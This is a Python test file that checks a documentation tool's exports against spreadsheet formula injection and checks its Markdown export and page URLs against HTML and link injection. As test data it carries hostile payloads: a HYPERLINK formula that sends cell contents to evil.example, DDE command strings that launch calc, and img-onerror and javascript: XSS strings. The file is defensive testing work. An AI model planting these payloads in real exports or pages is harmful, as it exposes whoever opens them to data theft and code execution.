"""Exports cannot be used against whoever opens them (issue 23, items 4 and 5): CSV cells that
a spreadsheet would run as formulas are neutralised (OWASP: a leading `'`), the Markdown export
escapes HTML and Markdown in reader text, and page URLs are checked where the page context is
parsed (http or https, no whitespace or angle brackets). Each export is parsed back."""

from __future__ import annotations

import csv
import io
import json

import pytest
from markdown_it import MarkdownIt

from docsdesk.core.context import PageContextError, parse_page_context
from tests.docsdesk.insights.conftest import admin
from tests.docsdesk.insights.seed import seed, seed_thread, turn

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HOSTILE_MD = (
    'Fine <img src=x onerror="alert(1)"> [click](javascript:alert(1)) **bold** `tick`\n# Forged heading'
)


def test_page_urls_must_be_plain_http_urls():
    ok = parse_page_context({"page": {"url": "https://docs.example.com/a?b=c#d"}}, 16_000)
    assert ok is not None and ok.url == "https://docs.example.com/a?b=c#d"
    for bad in (
        "javascript:alert(1)",
        "https://x.example/\n## Forged",
        "https://x.example/<img src=x onerror=alert(1)>",
        "https://x.example/a b",
        "ftp://x.example/",
        "https:///nohost",
    ):
        with pytest.raises(PageContextError, match=r"metadata\.page\.url"):
            parse_page_context({"page": {"url": bad}}, 16_000)


async def test_exports_neutralise_formulas_and_escape_markdown(admin_app, engine, collection):
    url, _ = admin_app
    thread = await seed_thread(engine, user="exporter")
    records = [
        turn(thread, question, collection, cited=["https://docs.example.com/a/"]) for question in FORMULAS
    ]
    forged = turn(thread, HOSTILE_MD, collection)
    forged.page_url = "https://x.example/\n## Forged <img src=x onerror=alert(2)>"  # an old, unchecked row
    forged.follows = "=HYPERLINK(1)\n## Forged follows <img src=x onerror=alert(3)> **bold**"
    await seed(engine, [*records, forged])
    async with admin(url) as http:
        text = (await http.get("/admin/api/export", params={"format": "csv"})).text
        rows = list(csv.DictReader(io.StringIO(text)))
        questions = [row["question"] for row in rows]
        assert questions[: len(FORMULAS)] == ["'" + q for q in FORMULAS]
        for row in rows:
            for value in row.values():
                assert not value or value[0] not in "=+-@\t\r", value
        jsonl = (await http.get("/admin/api/export", params={"format": "jsonl"})).text
        first = next(json.loads(line)["question"] for line in jsonl.splitlines())
        assert first == FORMULAS[0]  # data, unchanged

        markdown = (await http.get("/admin/api/export", params={"format": "md"})).text
    tokens = MarkdownIt("commonmark").parse(markdown)
    headings = [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]
    assert len(headings) == 1 + len(FORMULAS) + 1 and not any("Forged" in h for h in headings)
    assert not [t for t in tokens if t.type in ("html_block", "html_inline")]
    inline = [child for t in tokens if t.type == "inline" for child in t.children or []]
    links = [c.attrGet("href") for c in inline if c.type == "link_open"]
    assert all(link.startswith("https://") for link in links), links
    assert not [c for c in inline if c.type == "image"]
    strong = {inline[i + 1].content for i, c in enumerate(inline) if c.type == "strong_open"}
    assert strong == {"Question", "Answer", "Sources"}  # only the export's own labels
    codes = {c.content for c in inline if c.type == "code_inline"}  # only our ids are code
    assert all(code.startswith("thr_") or code == "0123456789abcdef" for code in codes), codes
    html = MarkdownIt("commonmark").render(markdown)
    assert "<img" not in html and "javascript:" not in html.replace("javascript:alert(1)", "")
    assert (
        "Fine &lt;img src=x onerror=&quot;alert(1)&quot;&gt; [click](javascript:alert(1)) **bold** `tick`"
        in html
    )
